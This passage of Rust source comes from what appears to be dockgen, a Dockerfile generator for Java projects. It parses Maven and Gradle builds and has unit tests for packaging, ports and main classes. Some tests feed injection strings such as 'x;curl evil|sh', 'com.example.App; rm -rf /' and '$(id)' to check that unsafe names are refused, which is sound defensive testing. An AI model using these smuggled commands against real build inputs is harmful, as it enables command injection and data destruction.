            Ok(Some(Sourced::new(v.to_string(), format!("{build} ({from})"))))
        };
        if shadow {
            f.packaging = Packaging::Shadow;
            f.gradle_task = Some("shadowJar".into());
            f.artifact = archive("shadowJar", Some("all"))?;
            let m = manifest_main.as_deref().or(if has_application { app_main.as_deref() } else { None });
            f.manifest_main = m.is_some();
            *declared_main = match m {
                Some(m) => declared(m, "Main-Class of the shadow jar")?,
                None => None,
            };
            *needs_main = m.is_none();
        } else if has_application {
            f.packaging = Packaging::Application;
            f.gradle_task = Some("installDist".into());
            f.artifact = archive("jar", None)?;
            *declared_main = match &app_main {
                Some(m) => declared(m, "application mainClass")?,
                None => None,
            };
            *needs_main = true;
        } else if script.has_dependencies() {
            bail!(
                "{build} has dependencies but neither the application nor a shadow plugin, so the build makes neither a runnable jar nor a runtime classpath; add `application` to the plugins with a mainClass"
            );
        } else {
            f.gradle_task = Some("jar".into());
            f.artifact = archive("jar", None)?;
            f.packaging = if manifest_main.is_some() { Packaging::RunnableJar } else { Packaging::Thin };
            f.manifest_main = manifest_main.is_some();
            *declared_main = match &manifest_main {
                Some(m) => declared(m, "jar manifest Main-Class")?,
                None => None,
            };
            *needs_main = manifest_main.is_none();
        }
        Ok(())
    }
}

/// `${finalName}` or artifactId-version, checked for use in a shell command.
fn maven_final_name(pom: &Pom) -> Result<String> {
    let name = match (&pom.final_name, &pom.artifact_id, &pom.version) {
        (Some(n), _, _) => n.clone(),
        (None, Some(a), Some(v)) => format!("{a}-{v}"),
        (None, Some(_), None) => bail!("pom.xml has no <version> and no <parent> version, so the jar's name is unknown; add a <version>"),
        (None, None, _) => bail!("pom.xml has no <artifactId>; every Maven project needs one"),
    };
    if name.contains("${") {
        bail!("the jar's name in pom.xml ({name}) uses a property dockgen cannot resolve from the POM (perhaps one set on the command line); set <build><finalName> to a literal such as app");
    }
    Ok(checked(&name, "the jar name from pom.xml")?.to_string())
}

fn checked<'a>(value: &'a str, what: &str) -> Result<&'a str> {
    if safe_name(value) {
        Ok(value)
    } else {
        bail!("{what} is {value:?}; dockgen only writes names of letters, digits, '.', '_', '+' and '-' into the Dockerfile. Rename it");
    }
}

fn safe_path(p: &str) -> bool {
    p.split('/').all(safe_name)
}

fn read_properties(index: &DirIndex, file: &str) -> Result<BTreeMap<String, String>> {
    let text = index.read(file)?;
    let map = java_properties::read(text.as_bytes())
        .map_err(|e| anyhow::anyhow!("{file} is not a valid properties file ({e}); fix it"))?;
    Ok(map.into_iter().collect())
}

/// Spring Boot's version from the version catalog (gradle/libs.versions.toml).
fn catalog_boot_version(index: &DirIndex) -> Result<Option<String>> {
    let file = "gradle/libs.versions.toml";
    if !index.is_file(file) {
        return Ok(None);
    }
    let table: toml::Table = index.read_toml(file)?;
    let versions = table.get("versions").and_then(|v| v.as_table());
    let Some(plugins) = table.get("plugins").and_then(|p| p.as_table()) else { return Ok(None) };
    for p in plugins.values() {
        let (id, version) = match p {
            toml::Value::String(s) => match s.split_once(':') {
                Some((id, v)) => (id.to_string(), Some(toml::Value::String(v.to_string()))),
                None => continue,
            },
            toml::Value::Table(t) => (t.get("id").and_then(|i| i.as_str()).unwrap_or_default().to_string(), t.get("version").cloned()),
            _ => continue,
        };
        if id != "org.springframework.boot" {
            continue;
        }
        return Ok(match version {
            Some(toml::Value::String(v)) => Some(v),
            Some(toml::Value::Table(t)) => t
                .get("ref")
                .and_then(|r| r.as_str())
                .and_then(|r| versions?.get(r)?.as_str().map(str::to_string)),
            _ => None,
        });
    }
    Ok(None)
}

/// `server.port` from application.properties or application.yml, else 8080.
fn boot_port(index: &DirIndex) -> Result<Option<Sourced<u16>>> {
    let dir = "src/main/resources";
    let props = format!("{dir}/application.properties");
    if index.is_file(&props) {
        let map = read_properties(index, &props)?;
        if let Some(v) = map.get("server.port") {
            return Ok(port_value(v).map(|p| Sourced::new(p, format!("{props} (server.port={v})"))));
        }
    }
    for yml in ["application.yml", "application.yaml"] {
        let file = format!("{dir}/{yml}");
        if !index.is_file(&file) {
            continue;
        }
        let text = index.read(&file)?;
        let docs = yaml_rust2::YamlLoader::load_from_str(&text)
            .map_err(|e| anyhow::anyhow!("{file} is not valid YAML at line {} ({}); fix it", e.marker().line(), e.info()))?;
        for doc in &docs {
            let value = &doc["server"]["port"];
            let flat = &doc["server.port"];
            let v = if value.is_badvalue() { flat } else { value };
            let raw = match v {
                yaml_rust2::Yaml::Integer(i) => i.to_string(),
                yaml_rust2::Yaml::String(s) => s.clone(),
                _ => continue,
            };
            return Ok(port_value(&raw).map(|p| Sourced::new(p, format!("{file} (server.port: {raw})"))));
        }
    }
    Ok(Some(Sourced::new(8080, "Spring Boot default")))
}

/// `8081`, or the default in `${PORT:8081}`.
fn port_value(v: &str) -> Option<u16> {
    let v = v.trim();
    if let Some(inner) = v.strip_prefix("${").and_then(|s| s.strip_suffix('}')) {
        return inner.split_once(':').and_then(|(_, d)| d.trim().parse().ok());
    }
    v.parse().ok().filter(|p| *p > 0)
}

/// A port literal in a main class: `new InetSocketAddress(8080)`,
/// `.start(7070)` (Javalin), `port(4567)` (Spark), or a PORT default.
fn source_port(text: &str) -> Option<u16> {
    use regex_lite::Regex;
    use std::sync::LazyLock;
    static PORT: LazyLock<Vec<Regex>> = LazyLock::new(|| {
        [
            r#"getOrDefault\(\s*"PORT"\s*,\s*"(\d{2,5})"\s*\)"#,
            r#"getenv\(\s*"PORT"\s*\)\s*\?:\s*"(\d{2,5})""#,
            r"new\s+InetSocketAddress\(\s*(\d{2,5})\s*\)",
            r"\.start\(\s*(\d{2,5})\s*\)",
            r"\bport\(\s*(\d{2,5})\s*\)",
        ]
        .iter()
        .map(|r| Regex::new(r).expect("dockgen bug: invalid built-in regex"))
        .collect()
    });
    PORT.iter().find_map(|re| re.captures(text)?[1].parse().ok().filter(|p| *p > 0))
}

fn source_framework(text: &str) -> Option<&'static str> {
    [
        ("io.javalin", "Javalin"),
        ("spark.Spark", "Spark"),
        ("io.micronaut", "Micronaut"),
        ("io.helidon", "Helidon"),
        ("io.vertx", "Vert.x"),
        ("io.ktor", "Ktor"),
        ("com.sun.net.httpserver", "JDK HttpServer"),
    ]
    .iter()
    .find(|(needle, _)| text.contains(needle))
    .map(|(_, name)| *name)
}

/// (fully qualified class, source file) pairs.
type MainClasses = Vec<(String, String)>;

/// Classes with a main method under src/main/{java,kotlin}: a bounded walk of
/// the project's own sources (never build output or dependencies).
fn scan_sources(index: &DirIndex) -> Result<(MainClasses, Vec<String>)> {
    let mut found = Vec::new();
    let mut tried = Vec::new();
    let mut visited = 0usize;
    for root in ["src/main/java", "src/main/kotlin"] {
        if !index.is_dir(root) {
            tried.push(format!("no {root}/"));
            continue;
        }
        let mut stack = vec![(root.to_string(), 0usize)];
        while let Some((dir, depth)) = stack.pop() {
            let names: Vec<(String, bool)> =
                index.entries(&dir).into_iter().filter(|e| !e.name.starts_with('.')).map(|e| (e.name, e.is_dir)).collect();
            for (name, is_dir) in names {
                visited += 1;
                if visited > SOURCE_WALK_LIMIT {
                    tried.push(format!("stopped after {SOURCE_WALK_LIMIT} entries under src/main"));
                    return Ok((found, tried));
                }
                let rel = format!("{dir}/{name}");
                if is_dir {
                    if depth < SOURCE_WALK_DEPTH {
                        stack.push((rel, depth + 1));
                    }
                    continue;
                }
                let kotlin = name.ends_with(".kt");
                if !(name.ends_with(".java") || kotlin) {
                    continue;
                }
                let Ok(text) = index.read(&rel) else { continue };
                if let Some(class) = main_class_of(&text, &name, kotlin) {
                    found.push((class, rel));
                }
            }
        }
        tried.push(format!("searched {root}/ for a main method"));
    }
    found.sort();
    Ok((found, tried))
}

/// The class a source file's main method belongs to, if it has one.
fn main_class_of(text: &str, file: &str, kotlin: bool) -> Option<String> {
    let code = gradle::strip_comments(text);
    let stem = file.rsplit_once('.')?.0;
    let class = if kotlin {
        // A top-level `fun main` compiles into <File>Kt.
        let top = code.lines().any(|l| l.starts_with("fun main(") || l.starts_with("fun main ("));
        if !top {
            return None;
        }
        let jvm_name = code.lines().find_map(|l| l.trim().strip_prefix("@file:JvmName(\"")?.split('"').next().map(str::to_string));
        jvm_name.unwrap_or_else(|| {
            let mut c = stem.chars();
            c.next().map(|f| f.to_uppercase().chain(c).collect::<String>() + "Kt").unwrap_or_default()
        })
    } else {
        let squashed: String = code.split_whitespace().collect::<Vec<_>>().join(" ");
        let has_main = squashed.contains("static void main(String[]")
            || squashed.contains("static void main(String []")
            || squashed.contains("static void main(String...")
            || squashed.contains("static void main(final String[]");
        if !has_main {
            return None;
        }
        stem.to_string()
    };
    let package = code.lines().find_map(|l| {
        let rest = l.trim().strip_prefix("package ")?;
        Some(rest.trim_end_matches(';').trim().to_string())
    });
    let fqcn = match package {
        Some(p) if !p.is_empty() => format!("{p}.{class}"),
        _ => class,
    };
    valid_class_name(&fqcn).then_some(fqcn)
}

/// A Spring Boot version as written in a build file: it picks how the jar is
/// layered, so something that is not a version (`3.3.5`, `3.4.0-RC1`) is an
/// error, not a guess (found by fuzzing: NUL bytes in the plugin version).
fn boot_version(file: &str, v: impl Into<String>) -> Result<String> {
    let v: String = v.into();
    let ok = v.len() <= 64
        && v.chars().next().is_some_and(|c| c.is_ascii_digit())
        && v.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_' | '+'));
    if !ok {
        bail!("{file}: the Spring Boot version \"{}\" is not a version; write one such as 3.3.5", crate::plan::printable(&v));
    }
    Ok(v)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn java_of(plan: &Plan) -> JavaPlan {
        serde_json::from_value(plan.section["java"].clone()).unwrap()
    }

    use crate::plan::{Choices, Plan, resolve};

    fn project(files: &[(&str, &str)]) -> tempfile::TempDir {
        let dir = tempfile::tempdir().unwrap();
        for (name, body) in files {
            let path = dir.path().join(name);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(&path, body).unwrap();
            if *name == "mvnw" || *name == "gradlew" {
                use std::os::unix::fs::PermissionsExt;
                std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
            }
        }
        dir
    }

    fn plan_with(files: &[(&str, &str)], choices: Choices) -> Result<Plan> {
        let dir = project(files);
        resolve(&DirIndex::scan(dir.path()).unwrap(), &choices)
    }

    fn plan_of(files: &[(&str, &str)]) -> Result<Plan> {
        plan_with(files, Choices::default())
    }

    fn err(files: &[(&str, &str)]) -> String {
        format!("{:#}", plan_of(files).unwrap_err())
    }

    const APP: (&str, &str) = ("src/main/java/a/App.java", "package a;\npublic class App { public static void main(String[] args) {} }\n");

    fn boot_pom(version: &str, extra: &str) -> String {
        format!(
            "<project><parent><groupId>org.springframework.boot</groupId><artifactId>spring-boot-starter-parent</artifactId><version>{version}</version></parent>\
             <artifactId>demo</artifactId><version>1.0</version><properties><java.version>17</java.version></properties>\
             <build><plugins><plugin><groupId>org.springframework.boot</groupId><artifactId>spring-boot-maven-plugin</artifactId>{extra}</plugin></plugins></build></project>"
        )
    }

    #[test]
    fn spring_boot_versions_pick_extraction_and_launcher() {
        let cases = [
            ("3.3.5", Some("-Djarmode=tools -jar target/demo-1.0.jar extract --layers --launcher"), "org.springframework.boot.loader.launch.JarLauncher"),
            ("4.0.0", Some("-Djarmode=tools"), "org.springframework.boot.loader.launch.JarLauncher"),
            ("3.2.4", Some("-Djarmode=layertools -jar target/demo-1.0.jar extract"), "org.springframework.boot.loader.launch.JarLauncher"),
            ("2.7.18", Some("-Djarmode=layertools"), "org.springframework.boot.loader.JarLauncher"),
        ];
        for (version, extract, launcher) in cases {
            let plan = plan_of(&[("pom.xml", &boot_pom(version, ""))]).unwrap();
            let j = java_of(&plan);
            assert_eq!(j.layout, "boot", "{version}");
            assert!(j.prepare[0].contains(extract.unwrap()), "{version}: {:?}", j.prepare);
            assert_eq!(plan.start, vec!["java".to_string(), launcher.to_string()], "{version}");
        }
        // Before layered jars (2.4), the fat jar runs as is.
        let plan = plan_of(&[("pom.xml", &boot_pom("2.3.12.RELEASE", ""))]).unwrap();
        assert_eq!(java_of(&plan).layout, "jar");
        assert_eq!(plan.start, ["java", "-jar", "/app/app.jar"]);
        // A classifier changes the artefact's name.
        let plan = plan_of(&[("pom.xml", &boot_pom("3.3.5", "<configuration><classifier>exec</classifier></configuration>"))]).unwrap();
        assert_eq!(java_of(&plan).artifact, "target/demo-1.0-exec.jar");
    }

    #[test]
    fn spring_boot_without_a_runnable_jar_is_refused() {
        let no_plugin = "<project><parent><groupId>org.springframework.boot</groupId><artifactId>spring-boot-starter-parent</artifactId><version>3.3.5</version></parent><artifactId>d</artifactId></project>";
        assert!(err(&[("pom.xml", no_plugin)]).contains("no spring-boot-maven-plugin"));
        let bom_no_goal = "<project><artifactId>d</artifactId><version>1</version><dependencyManagement><dependencies><dependency><groupId>org.springframework.boot</groupId><artifactId>spring-boot-dependencies</artifactId><version>3.3.5</version><type>pom</type><scope>import</scope></dependency></dependencies></dependencyManagement><build><plugins><plugin><artifactId>spring-boot-maven-plugin</artifactId></plugin></plugins></build></project>";
        assert!(err(&[("pom.xml", bom_no_goal)]).contains("no `repackage` goal"));
        let unknown = "<project><artifactId>d</artifactId><version>1</version><dependencyManagement><dependencies><dependency><groupId>org.springframework.boot</groupId><artifactId>spring-boot-dependencies</artifactId><version>${boot}</version><scope>import</scope></dependency></dependencies></dependencyManagement></project>";
        assert!(err(&[("pom.xml", unknown)]).contains("cannot read its version"));
    }

    #[test]
    fn maven_packaging_shapes() {
        let assembly = "<project><artifactId>tool</artifactId><version>2</version><build><plugins><plugin><artifactId>maven-assembly-plugin</artifactId>\
            <configuration><descriptorRefs><descriptorRef>jar-with-dependencies</descriptorRef></descriptorRefs><archive><manifest><mainClass>a.App</mainClass></manifest></archive></configuration>\
            <executions><execution><phase>package</phase><goals><goal>single</goal></goals></execution></executions></plugin></plugins></build></project>";
        let plan = plan_of(&[("pom.xml", assembly), APP]).unwrap();
        assert_eq!(java_of(&plan).artifact, "target/tool-2-jar-with-dependencies.jar");
        assert_eq!(plan.start, ["java", "-jar", "/app/app.jar"]);

        // A jar-plugin main class but runtime dependencies: classpath, not -jar.
        let thin = "<project><artifactId>t</artifactId><version>1</version><dependencies><dependency><groupId>x</groupId><artifactId>y</artifactId><version>1</version></dependency></dependencies>\
            <build><plugins><plugin><artifactId>maven-jar-plugin</artifactId><configuration><archive><manifest><mainClass>a.App</mainClass></manifest></archive></configuration></plugin></plugins></build></project>";
        let plan = plan_of(&[("pom.xml", thin)]).unwrap();
        assert_eq!(plan.start, ["java", "-cp", "/app/app.jar:/app/lib/*", "a.App"]);
        assert!(java_of(&plan).build_cmd.contains("dependency:copy-dependencies -DincludeScope=runtime"));

        // The distroless entrypoint is `java -jar`, so a runnable jar's CMD is only the jar.
        let runnable = "<project><artifactId>r</artifactId><version>1</version><build><plugins><plugin><artifactId>maven-jar-plugin</artifactId><configuration><archive><manifest><mainClass>a.App</mainClass></manifest></archive></configuration></plugin></plugins></build></project>";
        let plan = plan_with(&[("pom.xml", runnable)], Choices { runtime: Some(RuntimeKind::Distroless), ..Default::default() }).unwrap();
        let j = java_of(&plan);
        assert!(j.entrypoint_is_java_jar);
        assert_eq!(j.cmd, ["/app/app.jar"]);
    }

    #[test]
    fn main_class_from_sources_or_flag_or_unresolved() {
        let pom = ("pom.xml", "<project><artifactId>t</artifactId><version>1</version></project>");
        let plan = plan_of(&[pom, APP]).unwrap();
        assert_eq!(plan.start, ["java", "-cp", "/app/app.jar:/app/lib/*", "a.App"]);
        let two = [pom, APP, ("src/main/kotlin/b/tool.kt", "package b\nfun main() {}\n")];
        let plan = plan_of(&two).unwrap();
        assert_eq!(plan.unresolved.len(), 1);
        assert_eq!(plan.unresolved[0].choices, ["a.App", "b.ToolKt"]);
        assert_eq!(plan.unresolved[0].hint, "--main <a.App|b.ToolKt>");
        let plan = plan_with(&two, Choices { main: Some("b.ToolKt".into()), ..Default::default() }).unwrap();
        assert!(plan.unresolved.is_empty());
        assert_eq!(plan.start.last().unwrap(), "b.ToolKt");
        let bad = plan_with(&two, Choices { main: Some("a.App\nRUN x".into()), ..Default::default() }).unwrap_err();
        assert!(bad.to_string().contains("is not a Java class name"), "{bad}");
        let none = plan_of(&[pom]).unwrap();
        assert!(none.unresolved[0].message.contains("cannot find the main class: no src/main/java/"), "{}", none.unresolved[0].message);
    }

    #[test]
    fn refusals_name_the_file_and_the_fix() {
        assert!(err(&[("pom.xml", "<project><artifactId>p</artifactId><version>1</version><modules><module>a</module></modules></project>")]).contains("multi-module build (modules: a)"));
        assert!(err(&[("pom.xml", "<project><artifactId>p</artifactId><version>1</version><packaging>war</packaging></project>")]).contains("packages a war"));
        assert!(err(&[("pom.xml", "<project><artifactId>p</artifactId><version>1</version><build><finalName>x;curl evil|sh</finalName></build></project>"), APP]).contains("only writes names of letters"));
        assert!(err(&[("pom.xml", "<project><artifactId>p</artifactId><build><finalName>${ci.name}</finalName></build><version>1</version></project>"), APP]).contains("cannot resolve"));
        assert!(err(&[("pom.xml", "<project>\n<artifactId>p</artifactId>\n<version>1</version\n</project>")]).contains("pom.xml is not valid XML at line"));
        assert!(err(&[("build.gradle", "plugins { id 'java' }\ndependencies {\n  implementation 'x:y:1'\n}\n")]).contains("neither the application nor a shadow plugin"));
        assert!(err(&[("build.gradle", "plugins { id 'application' }\n"), ("settings.gradle", "include 'api'\n")]).contains("includes subprojects (api)"));
        assert!(err(&[("build.gradle", "plugins { id 'application' }\nversion = gitVersion()\n"), ("settings.gradle", "rootProject.name = 'x'\n")]).contains("sets the version with code"));
    }

    #[test]
    fn build_tool_choice_prefers_the_wrapper() {
        let gradle_wrapped = [
            ("pom.xml", "<project><artifactId>m</artifactId><version>1</version></project>"),
            ("build.gradle", "plugins { id 'application' }\napplication { mainClass = 'a.App' }\nversion = '3'\n"),
            ("settings.gradle", "rootProject.name = 'g'\n"),
            ("gradlew", "#!/bin/sh\n"),
            ("gradle/wrapper/gradle-wrapper.jar", "jar"),
            ("gradle/wrapper/gradle-wrapper.properties", "distributionUrl=https\\://services.gradle.org/distributions/gradle-8.5-bin.zip\n"),
            APP,
        ];
        let plan = plan_of(&gradle_wrapped).unwrap();
        let j = java_of(&plan);
        assert_eq!(j.tool, "gradle");
        assert_eq!(j.tool_cmd, "./gradlew");
        assert_eq!(plan.images.builder, "eclipse-temurin:21-jdk");
        // No Java level in the build: the newest LTS Gradle 8.5 runs on.
        assert_eq!(plan.version.value, "21");
        assert!(plan.warnings.iter().any(|w| w.contains("using gradle because it has a wrapper")), "{:?}", plan.warnings);
        assert_eq!(j.prepare, ["mkdir -p /out", "cp -r build/install/g/lib /out/lib", "mv /out/lib/g-3.jar /out/app.jar"]);
    }

    #[test]
    fn gradle_wrapper_limits_the_jdk() {
        let with = |wrapper: &str, script: &str| {
            plan_of(&[
                ("build.gradle", script),
                ("settings.gradle", "rootProject.name = 'g'\n"),
                ("gradlew", "#!/bin/sh\n"),
                ("gradle/wrapper/gradle-wrapper.jar", "jar"),
                ("gradle/wrapper/gradle-wrapper.properties", &format!("distributionUrl=https\\://services.gradle.org/distributions/gradle-{wrapper}-bin.zip\n")),
                APP,
            ])
        };
        let toolchain21 = "plugins { id 'application' }\njava { toolchain { languageVersion = JavaLanguageVersion.of(21) } }\n";
        let e = format!("{:#}", with("7.4", toolchain21).unwrap_err());
        assert!(e.contains("Gradle 7.4") && e.contains("cannot run on JDK 21") && e.contains("--gradle-version 8.5"), "{e}");
        assert_eq!(with("7.4", "plugins { id 'application' }\n").unwrap().version.value, "17");
        let old_level = "plugins { id 'application' }\nsourceCompatibility = '11'\n";
        let plan = with("9.2.0", old_level).unwrap();
        assert_eq!(plan.version.value, "17", "Gradle 9 needs JDK 17 to run");
        assert!(plan.version.source.contains("oldest LTS Gradle 9.2.0 runs on"), "{}", plan.version.source);
        let e = plan_with(
            &[("build.gradle", old_level), ("settings.gradle", "rootProject.name = 'g'\n"), ("gradlew", "#!/bin/sh\n"), ("gradle/wrapper/gradle-wrapper.jar", "j"),
              ("gradle/wrapper/gradle-wrapper.properties", "distributionUrl=https\\://services.gradle.org/distributions/gradle-7.4-bin.zip\n"), APP],
            Choices { lang_version: Some("25".into()), ..Default::default() },
        )
        .unwrap_err();
        assert!(e.to_string().contains("Gradle 7.4 (the wrapper) cannot run on JDK 25"), "{e}");
    }

    #[test]
    fn gradle_names_and_versions() {
        // No settings.gradle: the project is named after the build folder.
        let plan = plan_of(&[("build.gradle.kts", "plugins {\n  application\n}\napplication { mainClass.set(\"a.App\") }\n"), APP]).unwrap();
        assert_eq!(java_of(&plan).artifact, "build/libs/app.jar");
        assert!(plan.warnings.iter().any(|w| w.contains("no settings.gradle")));
        // Spring Boot's version from the version catalog; bootJar's own file name.
        let plan = plan_of(&[
            ("build.gradle.kts", "plugins {\n  alias(libs.plugins.spring.boot)\n  id(\"org.springframework.boot\")\n}\ntasks.bootJar { archiveFileName.set(\"service.jar\") }\n"),
            ("settings.gradle.kts", "rootProject.name = \"svc\"\n"),
            ("gradle/libs.versions.toml", "[versions]\nboot = \"3.4.1\"\n[plugins]\nspring-boot = { id = \"org.springframework.boot\", version.ref = \"boot\" }\n"),
        ])
        .unwrap();
        assert_eq!(plan.framework.as_deref(), Some("Spring Boot 3.4.1"));
        assert_eq!(java_of(&plan).artifact, "build/libs/service.jar");
        assert_eq!(java_of(&plan).bind_dirs, ["gradle"]);
        // Shadow: the -all jar, Main-Class from the application plugin.
        let plan = plan_of(&[
            ("build.gradle", "plugins {\n id 'application'\n id 'com.gradleup.shadow' version '8.3.5'\n}\nversion = '1.1'\napplication { mainClass = 'a.App' }\ndependencies {\n implementation 'x:y:1'\n}\n"),
            ("settings.gradle", "rootProject.name = 'cli'\n"),
        ])
        .unwrap();
        assert_eq!(java_of(&plan).artifact, "build/libs/cli-1.1-all.jar");
        assert_eq!(plan.start, ["java", "-jar", "/app/app.jar"]);
    }

    #[test]
    fn ports_from_spring_configuration() {
        let pom = boot_pom("3.3.5", "");
        let plan = plan_of(&[("pom.xml", &pom), ("src/main/resources/application.properties", "server.port=${PORT:9000}\n")]).unwrap();
        assert_eq!(plan.port.value, 9000);
        let plan = plan_of(&[("pom.xml", &pom), ("src/main/resources/application.yaml", "server:\n  port: 7001\n")]).unwrap();
        assert_eq!(plan.port.value, 7001);
        let plan = plan_of(&[("pom.xml", &pom)]).unwrap();
        assert_eq!((plan.port.value, plan.port.source.as_str()), (8080, "Spring Boot default"));
        let e = format!("{:#}", plan_of(&[("pom.xml", &pom), ("src/main/resources/application.yml", "server: [\n")]).unwrap_err());
        assert!(e.contains("application.yml is not valid YAML at line"), "{e}");
    }

    #[test]
    fn runtimes_per_java_version() {
        let pom = |level: &str| format!("<project><artifactId>r</artifactId><version>1</version><properties><maven.compiler.release>{level}</maven.compiler.release></properties><build><plugins><plugin><artifactId>maven-jar-plugin</artifactId><configuration><archive><manifest><mainClass>a.App</mainClass></manifest></archive></configuration></plugin></plugins></build></project>");
        let distroless = Choices { runtime: Some(RuntimeKind::Distroless), ..Default::default() };
        let e = plan_with(&[("pom.xml", &pom("11"))], distroless.clone()).unwrap_err().to_string();
        assert!(e.contains("no Java 11 image") && e.contains("17, 21, 25"), "{e}");
        let plan = plan_with(&[("pom.xml", &pom("25"))], distroless.clone()).unwrap();
        assert_eq!(plan.images.runtime, "gcr.io/distroless/java25-debian13:nonroot");
        // A non-LTS level runs on the next LTS.
        let plan = plan_of(&[("pom.xml", &pom("22"))]).unwrap();
        assert_eq!(plan.version.value, "25");
        assert_eq!(plan.images.runtime, "eclipse-temurin:25-jre");
        let e = plan_with(&[("pom.xml", &pom("21"))], Choices { lang_version: Some("17".into()), ..Default::default() }).unwrap_err().to_string();
        assert!(e.contains("JDK 17 cannot build this project: it compiles for Java 21"), "{e}");
        let scratch = plan_with(&[("pom.xml", &pom("21"))], Choices { runtime: Some(RuntimeKind::Scratch), ..Default::default() }).unwrap_err().to_string();
        assert!(scratch.contains("scratch has no Java runtime"), "{scratch}");
    }

    #[cfg(unix)]
    #[test]
    fn a_wrapper_without_its_executable_bit_runs_with_sh() {
        let dir = project(&[
            ("pom.xml", "<project><artifactId>w</artifactId><version>1</version></project>"),
            (".mvn/wrapper/maven-wrapper.properties", "distributionUrl=https://repo.maven.apache.org/maven2/org/apache/maven/apache-maven/3.9.9/apache-maven-3.9.9-bin.zip\n"),
            APP,
        ]);
        std::fs::write(dir.path().join("mvnw"), "#!/bin/sh\n").unwrap();
        let plan = resolve(&DirIndex::scan(dir.path()).unwrap(), &Choices::default()).unwrap();
        let j = java_of(&plan);
        assert_eq!(j.tool_cmd, "sh mvnw");
        assert_eq!(j.bind_files, ["pom.xml", "mvnw"]);
        assert_eq!(j.bind_dirs, [".mvn"]);
        assert_eq!(plan.images.builder, "eclipse-temurin:25-jdk");
        assert!(plan.warnings.iter().any(|w| w.contains("git update-index --chmod=+x mvnw")));
    }

    #[test]
    fn levels_and_lts() {
        assert_eq!(parse_level("1.8"), Some(8));
        assert_eq!(parse_level("21"), Some(21));
        assert_eq!(parse_level("abc"), None);
        assert_eq!(parse_level("7"), None);
        assert_eq!(lts_for(17), 17);
        assert_eq!(lts_for(22), 25);
        assert_eq!(lts_for(27), 27);
    }

    #[test]
    fn class_names_and_shell_safe_names() {
        assert!(valid_class_name("com.example.App"));
        assert!(valid_class_name("a.MainKt"));
        assert!(!valid_class_name("com.example.App; rm -rf /"));
        assert!(!valid_class_name("com..App"));
        assert!(!valid_class_name("1abc"));
        assert!(safe_name("demo-0.0.1-SNAPSHOT"));
        assert!(!safe_name("a b"));
        assert!(!safe_name("$(id)"));
        assert!(!safe_name("-rf"));
    }

    #[test]
    fn main_classes_from_sources() {
        let java = "package a.b;\n/* static void main(String[] x) */\npublic class App {\n public static void main(String[] args) {}\n}";
        assert_eq!(main_class_of(java, "App.java", false).as_deref(), Some("a.b.App"));
        assert_eq!(main_class_of("package a;\nclass X { void main() {} }", "X.java", false), None);
        let kt = "package g\n\nfun main(args: Array<String>) {\n}\n";
        assert_eq!(main_class_of(kt, "greeterApp.kt", true).as_deref(), Some("g.GreeterAppKt"));
        let named = "@file:JvmName(\"Boot\")\npackage g\nfun main() {}\n";
        assert_eq!(main_class_of(named, "x.kt", true).as_deref(), Some("g.Boot"));
    }

    #[test]
    fn ports_from_config_values_and_sources() {
        assert_eq!(port_value("8081"), Some(8081));
        assert_eq!(port_value("${PORT:9000}"), Some(9000));
        assert_eq!(port_value("${PORT}"), None);
        assert_eq!(source_port("HttpServer.create(new InetSocketAddress(9090), 0)"), Some(9090));
        assert_eq!(source_port("System.getenv().getOrDefault(\"PORT\", \"8080\")"), Some(8080));
        assert_eq!(source_port("Javalin.create().start(7070);"), Some(7070));
        assert_eq!(source_port("nothing"), None);
    }
}
